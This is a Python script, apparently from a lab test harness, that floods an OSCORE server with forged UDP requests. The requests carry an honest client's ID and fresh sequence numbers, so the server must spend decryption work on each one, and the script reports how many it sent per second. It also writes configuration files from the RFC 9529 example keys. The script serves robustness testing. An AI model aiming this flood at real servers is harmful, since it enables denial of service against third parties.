#!/usr/bin/env python3
"""Forged requests of OSCORE: the contexts of a server and of an honest client, or what they make them from by EDHOC, and a
stranger who knows the client's ID.

As a program, it sends for attack.py, within the clients' namespace: each request has a number that is new to the server, which
has to decrypt it to learn that it is forged.
"""

import argparse
import json
import struct
import time

from hostile import place, steadily, udp

SECRET = "000102030405060708090a0b0c0d0e0f"
SERVER_ID, CLIENT_ID = "01", "02"


# Private keys and credentials of RFC 9529 chapter 3.
CLIENT_KEYS = ("fb13adeb6518cee5f88417660841142e830a81fe334380a953406a1305e8706b",
               "a2027734322d35302d33312d46462d45462d33372d33322d333908a101a5010202412b2001215820ac75e9ece3e50bfc8ed603998895"
               "22405c47bf16df96660a41298cb4307f7eb62258206e5de611388a4b8a8211334ac7d37ecb52a387d257e6db3c2a93df21ff3affc8")
SERVER_KEYS = ("72cc4761dbd4c78f758931aa589d348d1ef874a7e303ede2f140dcf3e6aa4aac",
               "a2026b6578616d706c652e65647508a101a501020241322001215820bbc34960526ea4d32e940cad2a234148ddc21791a12afbcbac9"
               "3622046dd44f02258204519e257236b2a0ce2023f0931f1f386ca7afda64fcde0108c224c51eabf6072")


def credentials(folder):
    """The arguments of a server and of an honest client of the command that make their contexts by EDHOC."""
    files = []
    for name, (key, own), (_, peer) in (("server", SERVER_KEYS, CLIENT_KEYS), ("client", CLIENT_KEYS, SERVER_KEYS)):
        files.append(folder / f"{name}.toml")
        files[-1].write_text(f'private-key = "{key}"\ncredential = "{own}"\n[[peer]]\ncredential = "{peer}"\nname = "peer"\n')
        files[-1].chmod(0o600)
    return [["--edhoc", str(file)] for file in files]


def contexts(folder):
    """The arguments of a server and of an honest client of the command."""
    files = []
    for name, sender, recipient in (("server", SERVER_ID, CLIENT_ID), ("client", CLIENT_ID, SERVER_ID)):
        files.append(folder / f"{name}.toml")
        files[-1].write_text(f'[[context]]\nsender-id = "{sender}"\nrecipient-id = "{recipient}"\nmaster-secret = "{SECRET}"\n')
        files[-1].chmod(0o600)
    server, client = map(str, files)
    return ["--oscore", server], ["--engine", "client", "--oscore", client]


def forge(number):
    """A POST with an OSCORE option (RFC 8613 section 6.1): a Partial IV of four bytes and the client's `kid`; and what is no
    ciphertext of it."""
    return struct.pack("!BBHBBIB", 0x40, 2, number & 0xFFFF, 0x96, 0x0C, 1 << 24 | number, int(CLIENT_ID, 16)) + b"\xff" + bytes(14)


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("server")
    parser.add_argument("--rate", type=int, required=True)
    parser.add_argument("--seconds", type=float, required=True)
    options = parser.parse_args()
    stranger, to, sent = udp("10.0.0.1"), place(options.server), 0
    stranger.connect(to)
    print("ready", flush=True)
    for number in steadily(options.rate, options.seconds):
        try:
            stranger.send(forge(number))
            sent += 1
        except (BlockingIOError, ConnectionRefusedError):
            time.sleep(0)
    print(json.dumps({"forged/s": sent / options.seconds}), flush=True)


if __name__ == "__main__":
    main()
